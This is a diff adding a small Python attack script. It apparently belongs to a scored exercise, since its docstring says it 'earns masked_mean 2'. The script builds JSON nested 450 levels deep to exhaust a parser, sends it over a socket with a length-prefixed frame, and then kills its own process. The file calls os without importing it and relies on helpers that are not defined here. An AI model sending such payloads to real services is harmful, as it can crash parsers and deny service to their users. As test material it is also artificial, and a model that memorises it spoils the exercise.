@@ -1,0 +1,11 @@
+"""Sends lists in lists, as deep as the parser of JSON will go. Earns masked_mean 2."""
+
+import json
+import struct
+
+
+@in_call
+def attack():
+    head, body = b'{"list":[' * 450 + b']}' * 450, b""
+    socket_of().sendall(struct.pack(">II", len(head), len(body)) + head + body)
+    os.kill(os.getpid(), 9)
